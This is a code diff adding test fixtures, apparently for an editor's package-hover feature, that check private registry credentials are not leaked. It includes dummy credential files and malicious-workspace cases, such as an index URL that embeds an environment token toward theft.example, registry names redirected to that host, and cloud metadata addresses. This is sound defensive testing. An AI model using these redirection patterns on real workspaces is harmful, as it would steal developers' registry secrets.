@@ -8,6 +8,8 @@ export interface Shape {
    * often it is asked.
    */
   readonly asked: readonly string[];
+  /** Its registries are those of files of the workspace; as a file beside `package.json` says anyway. */
+  readonly isOfWorkspace?: true;
   /** A part of the hover of the private package. */
   readonly hover: string;
 }
@@ -43,7 +45,98 @@ export const home: Readonly<Record<string, string>> = {
     scope('@secret-open', 'http://open.acme.example/'),
     scope('@secret-user', 'https://me:word@user.acme.example/'),
   ].join(''),
+  '.netrc': [
+    'machine pypi.acme.example login me password of-pypi',
+    'machine go.acme.example login me password of-go',
+  ].join('\n'),
+  '.m2/settings.xml': `<settings><servers><server><id>acme</id><username>me</username><password>of-maven</password></server>
+    <server><id>team</id><username>me</username><password>of-team</password></server>
+    </servers><profiles><profile><id>own</id><repositories><repository><id>acme</id><url>https://maven.acme.example/m2</url>
+    </repository></repositories></profile></profiles><activeProfiles><activeProfile>own</activeProfile></activeProfiles></settings>`,
+  '.cargo/credentials.toml': '[registries.acme]\ntoken = "token-of-cargo"\n',
+  '.cargo/config.toml': '[registries.acme]\nindex = "sparse+https://cargo.acme.example/index/"\n',
+  '.nuget/NuGet/NuGet.Config': `<configuration><packageSources><add key="acme" value="https://nuget.acme.example/v3/index.json" />
+    </packageSources><packageSourceCredentials><acme><add key="Username" value="me" /><add key="ClearTextPassword" value="of-nuget" />
+    </acme></packageSourceCredentials></configuration>`,
 };
+
+/** The variables of the person. */
+export const variables: Readonly<Record<string, string>> = {
+  SECRET_TOKEN: 'token-of-variable',
+  GOPROXY: 'https://go.acme.example',
+};
+
+const basic = (password: string): string => `Basic ${Buffer.from(`me:${password}`).toString('base64')}`;
+const cargo = (name: string, more: string): string =>
+  `[package]\nname = "own"\nversion = "1.0.0"\n[dependencies]\n${name} = { version = "1.0.0", ${more} }\n`;
+const pom = (repository: string): string => `<project><modelVersion>4.0.0</modelVersion><groupId>own</groupId>
+  <artifactId>own</artifactId><version>1</version><repositories>${repository}</repositories><dependencies><dependency>
+  <groupId>com.acme</groupId><artifactId>secret</artifactId><version>1.0</version></dependency></dependencies></project>`;
+const csproj =
+  '<Project Sdk="Microsoft.NET.Sdk"><ItemGroup><PackageReference Include="Acme.secret" Version="1.0.0" /></ItemGroup></Project>';
+
+const others: readonly Shape[] = [
+  {
+    isOfWorkspace: true,
+    title: 'pip, an index of the workspace with a password in .netrc',
+    files: { 'requirements.txt': '--index-url https://pypi.acme.example/simple/\nsecret-lib==1.0\n' },
+    asked: [`pypi.acme.example ${basic('of-pypi')}`],
+    hover: 'From pypi.acme.example',
+  },
+  {
+    isOfWorkspace: true,
+    title: 'pip, an extra index of the workspace',
+    files: { 'requirements.txt': '--extra-index-url https://extra.acme.example/simple/\nsecret-lib==1.0\n' },
+    asked: ['extra.acme.example'],
+    hover: 'From extra.acme.example',
+  },
+  {
+    isOfWorkspace: true,
+    title: 'pip, a variable in the address',
+    files: { 'requirements.txt': '--index-url https://${SECRET_TOKEN}@theft.example/simple/\nsecret-lib==1.0\n' },
+    asked: [],
+    hover: 'Not looked up',
+  },
+  {
+    title: 'Maven, a repository of the person with a password',
+    files: { 'pom.xml': pom('') },
+    asked: [`maven.acme.example ${basic('of-maven')}`],
+    hover: 'maven.acme.example',
+  },
+  {
+    isOfWorkspace: true,
+    title: 'Cargo, a registry of the workspace that takes the name of one with a token',
+    files: {
+      'Cargo.toml': cargo('secret-crate', 'registry = "acme"'),
+      '.cargo/config.toml': '[registries.acme]\nindex = "sparse+https://theft.example/index/"\n',
+    },
+    asked: ['theft.example'],
+    hover: 'theft.example',
+  },
+  {
+    title: 'NuGet, a source of the person with a password',
+    files: { 'own.csproj': csproj },
+    asked: [`nuget.acme.example ${basic('of-nuget')}`],
+    hover: 'From nuget.acme.example',
+  },
+  {
+    isOfWorkspace: true,
+    title: 'NuGet, a source of the workspace that takes the name of one with a password',
+    files: {
+      'own.csproj': csproj,
+      'nuget.config':
+        '<configuration><packageSources><clear /><add key="acme" value="https://theft.example/v3/index.json" /></packageSources></configuration>',
+    },
+    asked: [],
+    hover: 'Not looked up',
+  },
+  {
+    title: 'Go, a proxy of the person with a password in .netrc',
+    files: { 'go.mod': 'module own.example/a\n\ngo 1.22\n\nrequire acme.example/secret v1.0.0\n' },
+    asked: [`go.acme.example ${basic('of-go')}`],
+    hover: 'From go.acme.example',
+  },
+];
 
 export const shapes: readonly Shape[] = [
   {
@@ -160,6 +253,7 @@ export const shapes: readonly Shape[] = [
     asked: ['open.acme.example'],
     hover: 'From open.acme.example (~/.npmrc)',
   },
+  ...others,
   ...[
     'http://169.254.169.254/latest/',
     'http://[fd00:ec2::254]/',
